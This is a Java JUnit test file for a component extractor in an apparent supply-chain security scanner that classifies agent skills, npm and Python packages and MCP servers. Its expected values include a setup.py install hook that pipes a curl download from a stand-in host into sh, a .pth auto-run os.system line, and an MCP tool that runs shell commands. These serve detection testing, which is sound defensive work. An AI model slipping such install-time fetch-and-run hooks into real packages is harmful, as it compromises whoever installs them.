package dev.assay.extract.component;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.assay.engine.fact.CodeCall;
import dev.assay.engine.fact.CodeImport;
import dev.assay.engine.fact.Component;
import dev.assay.engine.fact.ConfigValue;
import dev.assay.engine.fact.FileEntry;
import dev.assay.engine.fact.InstalledSkill;
import dev.assay.engine.fact.ManifestScript;
import dev.assay.engine.fact.McpTool;
import dev.assay.engine.fact.TaintFlow;
import dev.assay.engine.fact.TextDocument;
import dev.assay.engine.spi.Extractor;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.ServiceLoader;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ComponentExtractorTest {

    @Test
    void registeredAsAServiceUnderItsId() {
        List<String> ids = ServiceLoader.load(Extractor.class).stream().map(p -> p.get().id())
                .collect(Collectors.toList());
        assertTrue(ids.contains("component"), ids.toString());
    }

    @Test
    void agentSkillWithTagsRolesAndDeclaredTools() {
        Scan scan = Scan.fixture("skill-weather");
        assertEquals(new Component("SKILL.md", "agent_skill", "weather-report", ""), scan.component());
        List<InstalledSkill> skills = scan.all(InstalledSkill.class);
        assertEquals(List.of(new InstalledSkill("SKILL.md", "", "weather-report",
                "Fetches a weather report for a city and summarises it.",
                List.of("Bash(python3:*)", "Read", "WebFetch"), "component")), skills);

        assertEquals(List.of("agent-facing"), scan.tags("SKILL.md"));
        assertEquals("skill-instructions", scan.role("SKILL.md"));
        assertEquals(List.of("agent-facing"), scan.tags("references/api.md"));
        assertEquals("skill-instructions", scan.role("references/api.md"));
        assertEquals(List.of("docs"), scan.tags("README.md"));
        assertEquals("doc", scan.role("README.md"));
        assertEquals(List.of("test-code"), scan.tags("tests/test_fetch.py"));
        assertEquals("code", scan.role("tests/test_fetch.py"));
        assertEquals(List.of(), scan.tags("scripts/fetch.py"));
        assertEquals("code", scan.role("scripts/fetch.py"));
        assertEquals(List.of("data-corpus"), scan.tags("evals/cases.jsonl"));

        List<String> files = scan.all(FileEntry.class).stream().map(FileEntry::file).collect(Collectors.toList());
        assertEquals(List.of("README.md", "SKILL.md", "evals/cases.jsonl", "references/api.md", "scripts/fetch.py",
                "tests/test_fetch.py"), files);
        assertEquals(files, scan.all(TextDocument.class).stream().map(TextDocument::file)
                .collect(Collectors.toList()));

        CodeCall get = scan.all(CodeCall.class).stream().filter(c -> c.callee().equals("requests.get")).findFirst()
                .orElseThrow();
        assertEquals("scripts/fetch.py", get.file());
        assertEquals("main", get.function());
        assertEquals(List.of(), scan.all(TaintFlow.class), "an API key sent as a header is no flow into a sink");
        assertEquals(List.of(), scan.skipped());
    }

    @Test
    void skillOneLevelDownWithAllowedToolsAsList() {
        Scan scan = Scan.fixture("listed");
        assertEquals(new Component("my-skill/SKILL.md", "agent_skill", "my-skill", ""), scan.component());
        InstalledSkill skill = scan.all(InstalledSkill.class).get(0);
        assertEquals("my-skill", skill.directory());
        assertEquals(List.of("Read", "Write", "Bash(git log:*)"), skill.allowedTools());
        List<String> callees = scan.all(CodeCall.class).stream().map(CodeCall::callee).collect(Collectors.toList());
        assertEquals(List.of("pipeline:git|head", "git", "head"), callees);
    }

    @Test
    void npmPackageWithLifecycleScripts() {
        Scan scan = Scan.fixture("npm-pkg");
        assertEquals(new Component("package.json", "npm_package", "colour-utils", "1.0.3"), scan.component());
        List<String> scripts = scan.all(ManifestScript.class).stream()
                .map(s -> s.ecosystem() + "|" + s.hook() + "|" + s.command() + "|L" + s.line())
                .collect(Collectors.toList());
        assertEquals(List.of("npm|postinstall|node lib/setup.js|L6", "npm|prepare|npm run build|L7"), scripts);
        assertTrue(scan.all(ConfigValue.class).stream().anyMatch(v -> v.document().equals("package-json")
                && v.path().equals("scripts.postinstall") && v.value().equals("node lib/setup.js")));
        List<String> callees = scan.all(CodeCall.class).stream().filter(c -> c.file().equals("lib/setup.js"))
                .map(CodeCall::callee).collect(Collectors.toList());
        assertTrue(callees.containsAll(List.of("fs.readFileSync", "os.homedir", "https.request",
                "child_process.execSync")), callees.toString());
        assertTrue(scan.all(CodeImport.class).stream().anyMatch(i -> i.module().equals("child_process")
                && i.name().equals("execSync") && i.alias().equals("execSync")));
        assertEquals("config", scan.role("package.json"));
    }

    @Test
    void bindingGypMeansAnImplicitInstallScript() {
        Scan scan = Scan.fixture("npm-gyp");
        List<ManifestScript> scripts = scan.all(ManifestScript.class);
        assertEquals(1, scripts.size());
        assertEquals("install", scripts.get(0).hook());
        assertEquals("node-gyp rebuild", scripts.get(0).command());
    }

    @Test
    void pythonPackageWithBuildBackendSetupPyAndPth() {
        Scan scan = Scan.fixture("py-pkg");
        assertEquals(new Component("pyproject.toml", "python_package", "demo-tools", "0.4.1"), scan.component());
        List<String> scripts = scan.all(ManifestScript.class).stream()
                .map(s -> s.file() + "|" + s.hook() + "|" + s.command()).collect(Collectors.toList());
        assertEquals(List.of("demo_hook.pth|pth|import os; os.system(\"echo loaded\")",
                "pyproject.toml|build-backend|backend (backend-path _build)",
                "setup.py|cmdclass:install|Hook",
                "setup.py|cmdclass:install|os.system(\"curl -s https://x.invalid/p.sh | sh\")"), scripts);
        List<String> cfg = scan.all(ConfigValue.class).stream().filter(v -> v.document().equals("setup-cfg"))
                .map(v -> v.path() + "=" + v.value()).collect(Collectors.toList());
        assertEquals(List.of("=2", "metadata=3", "metadata.name=demo-tools", "metadata.version=0.4.1",
                "metadata.description=Demo\ntools", "options=1", "options.packages=find:"), cfg);
        assertTrue(scan.all(ConfigValue.class).stream().anyMatch(v -> v.document().equals("pyproject")
                && v.path().equals("build-system.backend-path.0") && v.value().equals("_build")));
    }

    @Test
    void typescriptMcpServerAcrossFiles() {
        Scan scan = Scan.fixture("mcp-ts");
        assertEquals(new Component("src/index.ts", "mcp_server", "@demo/files-mcp", "2.1.0"), scan.component());
        List<McpTool> tools = scan.all(McpTool.class);
        assertEquals(1, tools.size(), "a tool registered in a file without the SDK import still counts");
        assertEquals("src/tools.ts", tools.get(0).file());
        assertEquals("read_file", tools.get(0).name());
        assertEquals("Read a text file", tools.get(0).description());
        assertEquals(List.of("test-code"), scan.tags("test/tools.test.ts"));
        assertEquals(List.of("docs"), scan.tags("docs/usage.md"));
        assertTrue(scan.all(CodeCall.class).stream().anyMatch(c -> c.callee().equals("fs/promises.readFile")
                && c.language().equals("typescript")));
    }

    @Test
    void manifestOnlyMcpServer() {
        Scan scan = Scan.fixture("mcp-manifest");
        assertEquals(new Component("server.json", "mcp_server", "io.x.invalid/notes", "0.9.0"), scan.component());
        List<String> tools = scan.all(McpTool.class).stream()
                .map(t -> t.file() + "|" + t.name() + "|" + t.description() + "|" + t.inputSchema() + "|" + t.dynamic()
                        + "|L" + t.line())
                .collect(Collectors.toList());
        assertEquals(List.of("server.json|add_note|Add a note|{\"type\":\"object\",\"properties\":{\"text\":"
                + "{\"type\":\"string\"}}}|false|L5", "server.json|list_notes|List notes||false|L6"), tools);
        assertTrue(scan.all(ConfigValue.class).stream().anyMatch(v -> v.file().equals(".mcp.json")
                && v.document().equals("mcp-config") && v.path().equals("mcpServers.notes.command")
                && v.value().equals("npx")));
        assertTrue(scan.all(ConfigValue.class).stream().anyMatch(v -> v.file().equals("server.json")
                && v.document().equals("mcp-manifest")));
        assertEquals(List.of("agent-facing"), scan.tags("server.json"));
        assertEquals(List.of("agent-facing"), scan.tags(".mcp.json"));
        assertEquals("config", scan.role("server.json"));
    }

    @Test
    void pythonMcpServerFromSdkUseWithTaint() {
        Scan scan = Scan.fixture("mcp-py");
        assertEquals(new Component("server.py", "mcp_server", "mcp-py", ""), scan.component());
        List<McpTool> tools = scan.all(McpTool.class);
        assertEquals(1, tools.size());
        assertEquals("run", tools.get(0).name());
        assertEquals("Run a shell command and return its output.", tools.get(0).description());
        List<TaintFlow> flows = scan.all(TaintFlow.class);
        assertEquals(List.of(new TaintFlow("server.py", "python", "tool-argument", 9, "shell", "subprocess.run", 11,
                "return subprocess.run(command, shell=True, capture_output=True, text=True).stdout")), flows);
    }

    @Test
    void plainDirectoryDataCorpusOnlyForNonCode() {
        Scan scan = Scan.fixture("plain");
        assertEquals(new Component("", "directory", "plain", ""), scan.component());
        assertEquals(List.of("data-corpus"), scan.tags("fixtures/prompts.json"));
        assertEquals(List.of(), scan.tags("benchmarks/payload.py"), "code in a corpus folder is still code");
        assertEquals(List.of("docs"), scan.tags(".gitignore"));
        assertEquals("other", scan.role("notes.txt"));
        assertEquals(List.of(), scan.all(McpTool.class), "a .tool() call in a non-MCP component is no MCP tool");
    }

    @Test
    void minifiedAndBinaryAndCompiledFiles(@TempDir Path dir) {
        StringBuilder bundle = new StringBuilder("!function(){");
        for (int i = 0; i < 400; i++) {
            bundle.append("var a").append(i).append("=require(\"m").append(i).append("\");");
        }
        bundle.append("}();\n");
        Scan.write(dir, "dist/app.min.js", bundle.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8));
        Scan.write(dir, "evil.py", new byte[] {'i', 'm', 'p', 0, 0, 1, 2, 3, 'x'});
        Scan.write(dir, "cache/mod.cpython-311.pyc", new byte[] {0x6f, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0});
        Scan scan = Scan.of(dir, dev.assay.engine.spi.Limits.defaults());
        assertEquals(List.of("minified", "minified-without-source"), scan.tags("dist/app.min.js"));
        assertTrue(scan.all(CodeCall.class).stream().anyMatch(c -> c.file().equals("dist/app.min.js")),
                "a minified bundle is still parsed");
        // Binary bytes in a source file: tagged, and its text parts are still analysed.
        assertEquals(List.of("binary-code"), scan.tags("evil.py"));
        assertEquals("binary content in a text file: only its text parts scanned", scan.skipReasons("evil.py").get(0));
        assertEquals(List.of("compiled", "compiled-without-source"), scan.tags("cache/mod.cpython-311.pyc"));
        assertEquals(List.of("compiled code without its source: not analysed"),
                scan.skipReasons("cache/mod.cpython-311.pyc"));
        assertTrue(scan.all(FileEntry.class).stream().anyMatch(f -> f.file().equals("evil.py") && f.binary()));
    }

    @Test
    void unparseableManifestsAreTaggedAndSkipped(@TempDir Path dir) {
        Scan scan = Scan.files(dir, Map.of("package.json", "{\"name\": \"broken\",", "SKILL.md",
                "---\nname: [unclosed\n---\nbody\n"));
        assertEquals(List.of("agent-facing", "unparseable-manifest"), scan.tags("SKILL.md"));
        assertEquals(List.of("unparseable-manifest"), scan.tags("package.json"));
        assertFalse(scan.skipReasons("package.json").isEmpty());
        assertEquals("agent_skill", scan.component().kind());
        assertEquals(dir.getFileName().toString(), scan.component().name());
    }

    @Test
    void precedenceSkillOverMcpOverNpmOverPython(@TempDir Path dir) {
        Scan both = Scan.files(dir.resolve("a"), Map.of("package.json", "{\"name\":\"n\",\"version\":\"1\"}",
                "pyproject.toml", "[project]\nname = \"p\"\n"));
        assertEquals("npm_package", both.component().kind());
        Scan mcp = Scan.files(dir.resolve("b"), Map.of("package.json", "{\"name\":\"n\",\"version\":\"1\"}",
                "index.js", "const { Server } = require('@modelcontextprotocol/sdk/server/index.js');\n"));
        assertEquals(new Component("index.js", "mcp_server", "n", "1"), mcp.component());
        Scan skill = Scan.files(dir.resolve("c"), Map.of("SKILL.md", "---\nname: s\n---\n", "server.json",
                "{\"name\":\"x\",\"tools\":[]}"));
        assertEquals("agent_skill", skill.component().kind());
        Scan wheel = Scan.files(dir.resolve("d"), Map.of("demo-1.0.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\nLong description\n"));
        assertEquals(new Component("demo-1.0.dist-info/METADATA", "python_package", "demo", "1.0"),
                wheel.component());
    }

    @Test
    void sameTargetSameFacts() {
        assertEquals(Scan.fixture("mcp-ts").facts(), Scan.fixture("mcp-ts").facts());
    }
}
